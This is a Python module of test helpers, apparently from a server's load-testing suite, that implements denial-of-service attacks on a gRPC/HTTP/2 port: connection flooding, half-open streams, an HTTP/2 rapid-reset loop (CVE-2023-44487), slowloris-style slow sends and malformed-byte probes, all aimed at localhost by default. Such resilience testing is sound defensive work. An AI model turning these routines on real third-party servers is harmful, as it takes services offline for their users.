"""Attacks on a server's ports that need no credentials: many connections, streams that send no
message, half a header, resets in a row, bytes that are no gRPC.

Each is a context manager or a function over plain blocking sockets, so that a suite runs one in a
thread beside whatever it probes. `source` is the address to attack from: all of 127.0.0.0/8 is
this machine's on Linux.
"""

from __future__ import annotations

import contextlib
import select
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Final, TypeVar

from simulation.load.frames import (
    ACK,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTING,
    SETTINGS,
    frame,
    grpc_headers,
    settings,
    settings_in,
    split,
)

CANCEL: Final = (8).to_bytes(4, "big")
MAX_STREAMS: Final = SETTING["max_concurrent_streams"]
Result = TypeVar("Result")
PATIENCE_S: Final = 10.0  # of an attacker, for one step
HEALTH: Final = "/grpc.health.v1.Health/Check"
TLS_HELLO: Final = bytes.fromhex("16030100c8010000c40303") + bytes(197)
GARBAGE: Final = {
    "tls-hello": TLS_HELLO,
    "http1": b"GET / HTTP/1.1\r\nHost: here\r\n\r\n",
    "random": bytes((37 * n * n + 11) & 255 for n in range(4_096)),
    "zeros": bytes(4_096),
    "preface-then-random": PREFACE + bytes((91 * n * n + 7) & 255 for n in range(4_096)),
    "preface-cut": PREFACE[:-3],
}
"""Bytes that are no call, by what they look like."""


GREETING: Final = PREFACE + settings()


def connect(
    port: int,
    *,
    source: str = "127.0.0.1",
    to: str = "127.0.0.1",
    within_s: float = PATIENCE_S,
) -> socket.socket:
    """A connection from `source`. Raises OSError."""
    return socket.create_connection((to, port), within_s, source_address=(source, 0))


def is_open(connection: socket.socket) -> bool:
    """Whether the other end has not closed it; what it has sent is read and dropped."""
    connection.setblocking(False)
    try:
        while data := connection.recv(65_536):
            del data
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


def open_among(connections: list[socket.socket]) -> int:
    """How many the other end has left open."""
    return sum(is_open(one) for one in connections)


def wait_closed(connections: list[socket.socket], at_least: int, within_s: float) -> int:
    """How many are closed, once `at_least` are, or after `within_s` seconds."""
    end = time.monotonic() + within_s
    while (closed := len(connections) - open_among(connections)) < at_least:
        if time.monotonic() > end:
            break
        time.sleep(0.02)
    return closed


@contextlib.contextmanager
def many_connections(
    port: int,
    count: int,
    *,
    says: bytes = b"",
    source: str = "127.0.0.1",
    goes_on: Callable[[], bool] = lambda: True,
    within_s: float = PATIENCE_S,
) -> Iterator[list[socket.socket]]:
    """`count` connections that say one thing, or nothing, and stay. Fewer where no more are let
    in, each within so many seconds, or once it is not to go on."""
    held: list[socket.socket] = []
    try:
        for _ in range(count):
            if not goes_on():
                break
            try:
                held.append(one := connect(port, source=source, within_s=within_s))
                one.sendall(says)
            except OSError:
                continue
        yield held
    finally:
        for one in held:
            one.close()


@contextlib.contextmanager
def half_open_streams(
    port: int, count: int, *, path: str = HEALTH, source: str = "127.0.0.1"
) -> Iterator[socket.socket]:
    """One connection with `count` calls whose message never comes."""
    with contextlib.closing(connect(port, source=source)) as connection:
        block = grpc_headers(path, "here")
        connection.sendall(GREETING)
        for number in range(count):
            connection.sendall(frame(HEADERS, END_HEADERS, 2 * number + 1, block))
        yield connection


@dataclass(frozen=True, slots=True)
class Resets:
    """What became of resets in a row: how many were sent before the connection was closed."""

    sent: int
    closed: bool


def rapid_resets(port: int, count: int, *, path: str = HEALTH, source: str = "127.0.0.1") -> Resets:
    """Opens calls and resets each at once, `count` times (CVE-2023-44487)."""
    block, sent = grpc_headers(path, "here"), 0
    with contextlib.closing(connect(port, source=source)) as connection:
        connection.sendall(GREETING)
        try:
            for number in range(count):
                stream = 2 * number + 1
                connection.sendall(
                    frame(HEADERS, END_HEADERS, stream, block)
                    + frame(RST_STREAM, 0, stream, CANCEL)
                )
                sent += 1
                if number % 64 == 0 and select.select([connection], [], [], 0)[0]:
                    connection.setblocking(True)
                    if not connection.recv(65_536):
                        return Resets(sent, True)
        except OSError:
            return Resets(sent, True)
        return Resets(sent, wait_closed([connection], 1, 2.0) == 1)


def slow_bytes(
    port: int, what: bytes, *, every_s: float, within_s: float, source: str = "127.0.0.1"
) -> float | None:
    """Sends `what` again and again, a byte at a time; after how many seconds the server has closed
    the connection, None: it has not within `within_s`."""
    began = time.monotonic()
    with contextlib.closing(connect(port, source=source)) as connection:
        place = 0
        while (passed := time.monotonic() - began) < within_s:
            try:
                connection.setblocking(True)
                connection.sendall(what[place : place + 1])
            except OSError:
                return passed
            place = (place + 1) % len(what)
            time.sleep(every_s)
            if not is_open(connection):
                return time.monotonic() - began
    return None


def garbage(port: int, kind: str, *, source: str = "127.0.0.1") -> None:
    """Sends bytes that are no call, and leaves."""
    with contextlib.suppress(OSError), contextlib.closing(connect(port, source=source)) as one:
        one.sendall(GARBAGE[kind])
        one.settimeout(0.5)
        one.recv(4_096)


def greeted_with(port: int) -> dict[int, int]:
    """The settings that the server greets with, by number (RFC 9113, 6.5.2)."""
    with contextlib.closing(connect(port)) as connection:
        connection.sendall(GREETING)
        connection.settimeout(PATIENCE_S)
        data = b""
        while chunk := connection.recv(65_536):
            data += chunk
            for kind, flags, _, start, end in split(data)[0]:
                if kind == SETTINGS and not flags & ACK:
                    return settings_in(data[start:end])
    return {}


def ended_streams(connection: socket.socket, at_least: int, within_s: float) -> int:
    """How many calls the server has ended, once `at_least` are, or after `within_s` seconds; all
    that there were, where it has closed the connection."""
    ended: set[int] = set()
    data, end = b"", time.monotonic() + within_s
    while len(ended) < at_least and (left := end - time.monotonic()) > 0:
        connection.settimeout(left)
        try:
            chunk = connection.recv(65_536)
        except TimeoutError:
            break
        if not chunk:
            break
        data += chunk
        frames, place = split(data)
        data = data[place:]
        ended |= {
            stream
            for kind, flags, stream, _, _ in frames
            if kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)
        }
    return len(ended)


@contextlib.contextmanager
def while_running(attack: Callable[[], Result]) -> Iterator[Callable[[], Result]]:
    """Runs it in a thread; what it comes to, once it is over."""
    with ThreadPoolExecutor(1) as thread:
        yield thread.submit(attack).result
